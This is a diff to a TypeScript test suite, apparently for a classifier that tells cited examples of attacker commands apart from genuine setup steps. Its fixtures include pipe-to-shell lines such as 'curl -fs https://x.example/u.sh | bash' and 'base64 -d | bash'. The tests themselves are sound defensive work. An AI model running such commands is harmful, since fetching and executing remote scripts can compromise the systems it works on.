@@ -45,6 +45,14 @@ describe('citedLines', () => {
     expect(block('If nothing was found, install the helper first:')).toBe(0);
   });
 
+  it('should cite blocks introduced as examples of what attackers plant or what to grep for', () => {
+    const block = (leadIn: string) =>
+      flags(`${leadIn}\n\n\`\`\`\ncurl -fs https://x.example/u.sh | bash\n\`\`\``)[3];
+    expect(block('5. Cron: grep for these patterns (examples of what attackers plant):')).toBe(1);
+    expect(block('The honeypot records whole sessions. Expect things like:')).toBe(1);
+    expect(block('Expect the install to take a minute; then run:')).toBe(0);
+  });
+
   it('should cite sections on detection opportunities and infection chains, not setup steps', () => {
     expect(flags('## Detection opportunities\n\n- `base64 -d | bash`')).toEqual([1, 1, 1]);
     expect(flags('## Infection chain\n\n`curl x | sh`')).toEqual([1, 1, 1]);
